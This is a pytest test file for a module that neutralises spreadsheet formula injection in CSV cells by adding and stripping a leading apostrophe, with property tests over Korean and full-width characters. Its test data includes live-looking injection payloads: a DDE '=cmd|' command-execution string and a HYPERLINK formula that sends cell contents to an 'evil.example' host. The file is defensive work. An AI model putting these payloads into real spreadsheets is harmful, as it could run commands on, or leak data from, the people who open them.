"""Texts in cells of a table: no spreadsheet computes one, and each is read back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from onharu.kernel.cells import MARK, RUNS, guarded, told

# What begins a formula, or ends a cell early, by OWASP and by what Korean keyboards write: plain, wide and small letters.
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
UNSEEN = ["", " ", "\u3000", "\xa0", "\u200b", "\ufeff", "\u202e", "\u2060", "\xad", "\x00", "\x0b", "\n", "\r\n", "\t"]
ENDS = ["\t", "\r", "\n"]
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example?x="&A1)', "=IMPORTXML(A1,A2)",
    "-2+3+cmd|'/c calc'!A0", "+82-10-1234-5678", "@홍길동", "-", "\t=1", "\r=1", "'=1", "''+1", "=", "＝1+1", "＋1", "－1", "＠SUM(1)",
]  # fmt: skip
TEXTS = [
    "밥",
    "",
    "김치찌개",
    "0",
    "'",
    "''",
    "'밥'",
    "a=b",
    "1+1",
    "혈압 120/80",
    "하루 1-2번",
    "x@y.kr",
    " 밥",
    "a\tb",
    "a\nb",
]
BEGUN = st.builds("{}{}{}".format, st.sampled_from(["", MARK, MARK * 2]), st.sampled_from([*UNSEEN, *SIGNS]), st.text())


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text):
    assert guarded(text) == MARK + text
    assert told(guarded(text)) == text


@pytest.mark.parametrize("unseen", UNSEEN, ids=ascii)
@pytest.mark.parametrize("sign", SIGNS, ids=ascii)
def test_no_blank_before_a_sign_hides_it(unseen, sign):
    assert guarded(f"{unseen}{sign}1").startswith(MARK)


@pytest.mark.parametrize("end", ENDS, ids=ascii)
def test_what_could_begin_another_cell_or_line_is_guarded(end):
    assert guarded(f"{end}밥") == f"'{end}밥"


@pytest.mark.parametrize("text", TEXTS, ids=ascii)
def test_any_other_text_stays_as_it_is(text):
    assert guarded(text) == told(text) == text


@given(st.one_of(st.text(), BEGUN))
@example("'" * 3 + "=1")
@example("'\t")
def test_every_text_is_read_back_as_it_was_and_none_begins_a_formula(text):
    cell = guarded(text)
    assert told(cell) == text
    assert not cell.startswith((*SIGNS, *ENDS))
    assert cell == text or cell == MARK + text


@given(st.lists(st.lists(st.one_of(st.text(), BEGUN), min_size=2, max_size=2), min_size=1))
def test_a_whole_table_is_read_back_as_it_was(rows):
    out = io.StringIO()
    csv.writer(out).writerows([[guarded(text) for text in row] for row in rows])
    again = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [[told(cell) for cell in row] for row in again] == rows


@given(st.decimals(allow_nan=False, allow_infinity=False))
def test_a_number_of_a_person_is_never_told_as_a_text_by_its_own_cell(number):
    """A negative number as a text would be guarded: numbers never pass through here (onharu.rights.rules.cells)."""
    assert bool(RUNS.match(str(Decimal(number)))) == str(number).startswith("-")
